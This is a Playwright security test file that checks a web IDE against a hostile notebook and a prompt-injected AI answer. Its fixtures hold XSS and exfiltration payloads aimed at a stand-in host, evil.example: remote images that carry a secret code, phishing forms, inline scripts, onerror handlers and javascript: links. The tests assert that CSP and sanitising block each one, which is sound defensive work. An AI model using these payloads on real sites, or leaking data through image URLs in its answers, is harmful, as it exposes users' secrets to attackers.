"""Hostile notebooks and AI answers in a real browser: nothing leaks, restyles, submits or runs.

A shared notebook (markdown, HTML, markdown and SVG outputs) and an AI answer carry remote
images, <style>, <form>, inline <script>, event handlers and javascript: links. Every request
the page makes is logged and any for the attacker's host is caught by Playwright's router.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from .conftest import IDEServer, _serve, put_file, refresh_until_listed, shot
from .test_ai_ui import _ai_config, _ask, _open_assistant, upstream  # noqa: F401 - fixture

pytestmark = pytest.mark.e2e

EVIL = re.compile(r"^[a-z]+://([^/]*\.)?evil\.example(:\d+)?/")
IDE_BACKGROUND = "rgb(30, 30, 30)"

MARKDOWN_TRAP = """# Read me

![leak](https://evil.example/md-image.png?code=SECRET)

<img src="https://evil.example/md-img-tag.png" id="md-remote">

<style>.explorer { display: none !important } body { background: rgb(255, 0, 0) !important }</style>

<form action="https://evil.example/phish" method="post"><input name="password" id="phish-pw">
<button id="phish-go">Sign in again</button></form>

<script>window.__pwned = 'markdown script'</script>

<a id="js-link" href="javascript:window.__pwned='link'">click me</a> and
[md link](javascript:window.__pwned='mdlink')

<img src="x" onerror="window.__pwned = 'onerror'">
"""

HTML_TRAP = (
    "<style>body { background: rgb(0, 128, 0) } .explorer { display: none !important }</style>"
    '<p id="html-out">an html output</p>'
    '<img src="https://evil.example/html-img.png">'
    '<div style="background: url(https://evil.example/css-bg.png); height: 10px"></div>'
    '<form action="https://evil.example/phish2"><input name="pw" id="frame-pw">'
    '<button id="frame-go" type="submit">Go</button></form>'
    "<script>window.__pwned = 'html script'</script>"
    '<img src="x" onerror="window.__pwned = \'html onerror\'">'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<a id="frame-js" href="javascript:window.__pwned=1">x</a>'
)

SVG_TRAP = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
    '<image href="https://evil.example/svg-image.png" width="20" height="20"/>'
    "<script>parent.__pwned = 'svg'</script></svg>"
)


def _trap_notebook() -> dict[str, Any]:
    """A notebook as someone might share it: hostile markdown and saved hostile outputs."""
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {"id": "md1", "cell_type": "markdown", "metadata": {}, "source": MARKDOWN_TRAP},
            {
                "id": "code1",
                "cell_type": "code",
                "metadata": {},
                "execution_count": 1,
                "source": "show()",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": HTML_TRAP, "text/plain": "html"},
                    },
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/markdown": "![m](https://evil.example/out-md.png) *md out*"},
                    },
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"image/svg+xml": SVG_TRAP},
                    },
                ],
            },
        ],
    }


@pytest.fixture(scope="module")
def ide_server(
    tmp_path_factory: pytest.TempPathFactory,
    upstream: dict[str, Any],  # noqa: F811 - the fixture imported above
) -> Iterator[IDEServer]:
    """A server with the fake AI upstream, so an answer can carry the attack too."""
    with _serve(tmp_path_factory.mktemp("e2e-safe"), config=_ai_config(upstream)) as server:
        yield server


@pytest.fixture
def watched(browser: Browser, ide_server: IDEServer) -> Iterator[dict[str, Any]]:
    """A signed-in page whose every request is logged; the attacker's host is intercepted."""
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    leaked: list[str] = []
    outcomes: dict[str, list[str]] = {"finished": [], "failed": []}
    violations: list[str] = []

    def catch(route: Route) -> None:
        leaked.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=b"")

    def finished(request: Request) -> None:
        outcomes["finished"].append(request.url)

    def failed(request: Request) -> None:
        outcomes["failed"].append(f"{request.url} {request.failure}")

    context.route(EVIL, catch)
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.on("requestfinished", finished)
    page.on("requestfailed", failed)
    page.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    response = page.goto(ide_server.ide_url())
    assert response is not None
    page.get_by_test_id("explorer").wait_for()
    yield {
        "page": page,
        "leaked": leaked,
        "outcomes": outcomes,
        "violations": violations,
        "response": response,
    }
    context.close()
    assert not errors, f"uncaught errors in the page: {errors}"


def _assert_nothing_left(watched: dict[str, Any]) -> None:
    """No request reached the attacker: none went to the network, none completed.

    Chrome reports some requests CSP refused before they were sent; those must have failed
    as blocked by CSP.
    """
    assert watched["leaked"] == [], watched["leaked"]
    outcomes = watched["outcomes"]
    assert not [u for u in outcomes["finished"] if EVIL.match(u)], outcomes["finished"]
    for failure in outcomes["failed"]:
        if EVIL.match(failure):
            assert failure.rsplit(" ", 1)[-1] in ("csp", "net::ERR_BLOCKED_BY_CSP"), failure


def _pwned(page: Page) -> list[str]:
    """What any injected script managed to set, in the page and in every frame."""
    found = []
    for frame in page.frames:
        value = frame.evaluate("() => window.__pwned ?? null")
        if value is not None:
            found.append(f"{frame.url}: {value}")
    return found


def _assert_ide_unstyled(page: Page) -> None:
    """The IDE looks as it should: content's styles applied nowhere in it."""
    expect(page.get_by_test_id("explorer")).to_be_visible()
    colours = page.evaluate(
        "() => [document.documentElement, document.body]"
        ".map((e) => getComputedStyle(e).backgroundColor)"
    )
    assert colours == [IDE_BACKGROUND, "rgba(0, 0, 0, 0)"]


def test_the_page_sends_its_policy(watched: dict[str, Any], ide_server: IDEServer) -> None:
    """The /ide response carries the strict CSP the browser enforces below."""
    policy = watched["response"].headers["content-security-policy"]
    host = ide_server.url.split("/")[2]
    assert policy.startswith(
        "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; "
        "img-src 'self' data: blob:; font-src 'self' data:; "
        f"connect-src 'self' ws://{host} wss://{host}; worker-src 'self'"
    )
    assert "form-action 'none'" in policy
    assert "frame-ancestors 'self'" in policy


def test_a_hostile_notebook_leaks_nothing_and_runs_nothing(
    watched: dict[str, Any], ide_server: IDEServer
) -> None:
    """Remote images, styles, forms, scripts and javascript: links in a notebook are inert."""
    page: Page = watched["page"]
    put_file(ide_server, "trap.ipynb", json.dumps(_trap_notebook()))
    refresh_until_listed(page, "trap.ipynb")
    page.get_by_test_id("explorer-item-trap.ipynb").click()
    notebook = page.get_by_test_id("notebook-trap.ipynb")
    rendered = notebook.get_by_test_id("markdown-rendered")
    expect(rendered.locator("h1")).to_have_text("Read me")
    # The HTML output is shown, in its sandboxed frame, sized to its content.
    frame_element = notebook.get_by_test_id("output-html-frame")
    expect(frame_element).to_have_attribute(
        "sandbox", "allow-scripts allow-popups allow-popups-to-escape-sandbox"
    )
    frame = notebook.frame_locator('[data-testid="output-html-frame"]')
    expect(frame.locator("#html-out")).to_have_text("an html output")
    page.wait_for_function(
        "() => document.querySelector('[data-testid=output-html-frame]').offsetHeight > 40"
    )
    expect(notebook.locator(".output-markdown em")).to_have_text("md out")
    expect(notebook.locator("img.output-svg")).to_be_visible()
    page.wait_for_timeout(1500)  # time for any stray request to go out
    shot(page, "safe-01-hostile-notebook")

    _assert_nothing_left(watched)
    _assert_ide_unstyled(page)
    # The output's own style applies inside its frame only.
    inside = frame.locator("body").evaluate("b => getComputedStyle(b).backgroundColor")
    assert inside == "rgb(0, 128, 0)"
    # Blocked images say what they were; no form, input or script survived anywhere.
    blocked = rendered.locator(".blocked-image")
    expect(blocked).to_have_count(2)
    expect(blocked.first).to_have_text("[image from evil.example not shown]")
    assert rendered.locator("form, input, button, script, style").count() == 0
    # (The frame's only script is our size reporter, in its head.)
    assert frame.locator("body :is(form, input, button, script, iframe)").count() == 0
    assert frame.locator("head script").get_attribute("src", timeout=1000) == (
        f"{ide_server.url}/ide/static/output-frame.js"
    )
    for text in ("click me", "md link"):
        assert rendered.locator("a", has_text=text).get_attribute("href") is None
    rendered.locator("a", has_text="click me").click()
    assert _pwned(page) == []


def test_an_ai_answer_with_a_remote_image_leaks_nothing(watched: dict[str, Any]) -> None:
    """A prompt-injected answer that embeds the code in an image URL loads no image."""
    page: Page = watched["page"]
    _open_assistant(page)
    _ask(
        page,
        "![x](https://evil.example/ai.png?code=def%20secret) "
        '<img src="https://evil.example/ai-tag.png"><style>body{background:red!important}</style>'
        '<form action="https://evil.example/ai-phish"><button id="ai-go">go</button></form>'
        "<script>window.__pwned='ai'</script>",
    )
    answer = page.get_by_test_id("chat-assistant").last
    expect(answer).to_have_attribute("data-streaming", "false")
    expect(answer.locator(".blocked-image").first).to_have_text(
        "[image from evil.example not shown]"
    )
    page.wait_for_timeout(1000)
    shot(page, "safe-02-hostile-answer")
    _assert_nothing_left(watched)
    assert answer.locator("form, button#ai-go, style, script").count() == 0
    _assert_ide_unstyled(page)
    assert _pwned(page) == []


def test_the_policy_blocks_what_the_sanitiser_might_miss(watched: dict[str, Any]) -> None:
    """Injected straight into the DOM (as a sanitiser bug would), nothing loads, runs or posts."""
    page: Page = watched["page"]
    result = page.evaluate(
        """async () => {
          const seen = [];
          document.addEventListener('securitypolicyviolation', (e) =>
            seen.push(e.violatedDirective));
          const img = document.createElement('img');
          img.src = 'https://evil.example/direct.png?code=SECRET';
          document.body.appendChild(img);
          const script = document.createElement('script');
          script.textContent = "window.__pwned = 'inline script'";
          document.body.appendChild(script);
          const form = document.createElement('form');
          form.action = 'https://evil.example/post';
          form.method = 'post';
          document.body.appendChild(form);
          form.submit();
          await new Promise((resolve) => setTimeout(resolve, 1000));
          return seen;
        }"""
    )
    assert "img-src" in result
    assert "script-src-elem" in result
    assert "form-action" in result
    _assert_nothing_left(watched)
    assert _pwned(page) == []
    assert page.url.startswith(watched["response"].url.split("?")[0])
